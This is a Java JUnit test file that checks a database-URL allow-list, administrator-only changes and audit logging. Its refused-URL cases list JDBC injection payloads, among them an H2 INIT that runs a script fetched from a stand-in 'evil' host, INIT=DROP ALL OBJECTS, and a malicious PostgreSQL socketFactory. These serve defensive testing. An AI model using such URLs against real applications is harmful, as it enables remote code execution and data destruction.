package org.jiandu.persistence.tests;

import static org.junit.jupiter.api.Assertions.assertDoesNotThrow;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Files;
import java.nio.file.Path;

import org.jiandu.core.audit.AuditLog;
import org.jiandu.core.model.CountyProfile;
import org.jiandu.core.security.AccessDeniedException;
import org.jiandu.core.security.Role;
import org.jiandu.core.security.Subject;
import org.jiandu.persistence.DatabaseConfig;
import org.jiandu.persistence.DatabaseException;
import org.jiandu.persistence.DatabaseManager;
import org.jiandu.persistence.Installation;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * A database URL is a program: H2's {@code INIT=} runs SQL, PostgreSQL's {@code socketFactory} loads a class. Only
 * an H2 file or a PostgreSQL server with parameters from a short list is accepted, and only an administrator may
 * change it, audited (review finding: any user could set it; only its prefix was checked).
 */
class DatabaseUrlTest {

    @TempDir
    Path dir;

    @AfterEach
    void closeDatabase() {
        Services.get(DatabaseManager.class).close();
    }

    @ParameterizedTest
    @ValueSource(strings = { "jdbc:h2:mem:x", "jdbc:h2:tcp://localhost/x", "jdbc:h2:ssl://h/x", "jdbc:h2:zip:/a.zip!/x",
            "jdbc:h2:/tmp/x", "jdbc:h2:file:", "jdbc:h2:file:/tmp/x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
            "jdbc:h2:file:/tmp/x;init=CREATE ALIAS E AS 'x'", "jdbc:h2:file:/tmp/x;CIPHER=AES;TRACE_LEVEL_FILE=4",
            "jdbc:h2:file:/tmp/x; Init =x", "jdbc:h2:file:/tmp/x;AUTO_SERVER=TRUE",
            "jdbc:postgresql://h/db?socketFactory=org.x.Evil", "jdbc:postgresql://h/db?sslmode=require&loggerFile=/tmp/l",
            "jdbc:postgresql://h/db?sslfactory=org.postgresql.ssl.NonValidatingFactory",
            "jdbc:postgresql://h/db?options=-c%20log_statement=all", "jdbc:postgresql://h/db?SOCKETFACTORY=x",
            "jdbc:mysql://x/y" })
    void refusesUrlsOutsideTheAllowList(String url) {
        DatabaseException e = assertThrows(DatabaseException.class, () -> new DatabaseConfig(url, null, null), url);
        assertEquals(DatabaseException.Reason.BAD_URL, e.reason(), url);
        assertFalse(e.getMessage().contains("\n"), "one line: " + e.getMessage());
        assertFalse(e.getMessage().contains("evil"), "the refused value is not repeated: " + e.getMessage());
    }

    @ParameterizedTest
    @ValueSource(strings = { "jdbc:h2:file:/tmp/x", "jdbc:h2:file:/tmp/x;CIPHER=AES",
            "jdbc:postgresql://h:5432/db", "jdbc:postgresql://h1,h2:5433/db?targetServerType=primary",
            "jdbc:postgresql://h/db?sslmode=verify-full&sslrootcert=/etc/jiandu/ca.pem&sslcert=/c.pem&sslkey=/k.pk8"
                    + "&currentSchema=jiandu&connectTimeout=5&ApplicationName=jiandu&user=u&password=p" })
    void acceptsAnH2FileAndAServerWithListedParameters(String url) {
        assertDoesNotThrow(() -> new DatabaseConfig(url, null, null));
    }

    @Test
    void aBadUrlOnTheCommandLineIsRefusedBeforeTheDataDirectoryIsTouched() {
        Path data = dir.resolve("untouched");
        DatabaseException e = assertThrows(DatabaseException.class,
                () -> Installation.resolve("danfeng", data.toString(), "jdbc:h2:mem:x"));
        assertTrue(e.getMessage().contains("jdbc:h2:file:"), e.getMessage());
        assertFalse(Files.exists(data));
    }

    @Test
    void onlyAnAdministratorChangesTheDatabaseAndTheChangeIsAudited() throws Exception {
        Services.get(DatabaseManager.class).open(DatabaseConfig.h2(dir.resolve("db").resolve("jiandu")));
        AuditLog audit = Services.get(AuditLog.class);
        Installation inst = Installation.resolve("danfeng", dir.toString(), null);
        String server = "jdbc:postgresql://10.0.0.5/jiandu?sslmode=verify-full";
        Subject county = new Subject("county", "county", Role.COUNTY_COMMISSION, "danfeng", "丹凤县", "/sl/danfeng/");
        assertThrows(AccessDeniedException.class, () -> inst.changeDatabase(county, audit, server, "jd"));
        assertNull(inst.settings().getProperty(Installation.SETTING_DB_URL), "nothing stored for a refused user");

        Subject admin = new Subject("wang.li", "王莉", Role.ADMINISTRATOR, CountyProfile.CITY_CODE, "商洛市", "/");
        assertThrows(DatabaseException.class,
                () -> inst.changeDatabase(admin, audit, "jdbc:h2:file:/tmp/x;INIT=DROP ALL OBJECTS", null));
        assertNull(inst.settings().getProperty(Installation.SETTING_DB_URL), "nothing stored for a refused URL");

        inst.changeDatabase(admin, audit, server, "jd");
        assertEquals(server, inst.settings().getProperty(Installation.SETTING_DB_URL));
        assertTrue(audit.latest(admin, 5).stream().anyMatch(e -> "wang.li".equals(e.getActor())
                && e.getTarget().equals("settings:database") && e.getDetail().contains("10.0.0.5")),
                "the change is in the audit log");
        assertTrue(audit.verify().intact());
    }
}
